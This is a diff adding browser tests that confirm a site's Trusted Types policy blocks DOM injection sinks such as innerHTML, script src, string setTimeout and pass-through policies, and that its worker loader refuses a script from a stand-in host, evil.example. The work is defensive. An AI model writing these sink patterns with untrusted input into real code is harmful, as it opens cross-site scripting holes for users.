@@ -198,6 +198,36 @@ def test_everything_can_be_reached_by_its_name(page):
     assert controls.evaluate_all(unnamed) == 0
 
 
+PLANTED = {
+    "markup": "document.body.innerHTML = text",
+    "markup beside": "document.body.insertAdjacentHTML('beforeend', text)",
+    "a document": "new DOMParser().parseFromString(text, 'text/html')",
+    "a fragment": "document.createRange().createContextualFragment(text)",
+    "a frame": "document.createElement('iframe').srcdoc = text",
+    "a script's address": "document.createElement('script').src = text",
+    "a script's words": "document.createElement('script').text = text",
+    "a worker": "new Worker(text)",
+    "code later": "setTimeout(text)",
+    "a handler": "document.body.setAttribute('onclick', text)",
+    "a way of its own": "trustedTypes.createPolicy('mine', { createHTML: (each) => each }).createHTML(text)",
+    "our way once more": "trustedTypes.createPolicy('own-worker', { createScriptURL: (each) => each })",
+}
+
+
+@pytest.mark.parametrize("sink", PLANTED)
+def test_text_becomes_neither_markup_nor_script(page, sink):
+    tried = f"(text) => {{ try {{ {PLANTED[sink]}; return 'done'; }} catch (error) {{ return error.name; }} }}"
+    assert page.evaluate(tried, "/static/js/copy.js") in {"TypeError", "EvalError"}
+
+
+def test_a_worker_from_another_site_is_refused_by_our_own_way_too(page):
+    tried = """async () => {
+      const { ownWorker } = await import("/static/js/own_worker.js");
+      try { ownWorker("https://evil.example/worker.js"); return "done"; } catch (error) { return error.message; }
+    }"""
+    assert page.evaluate(tried) == "no script of this site"
+
+
 @pytest.fixture
 def answer(client):
     return client.get("/fingerprint/")
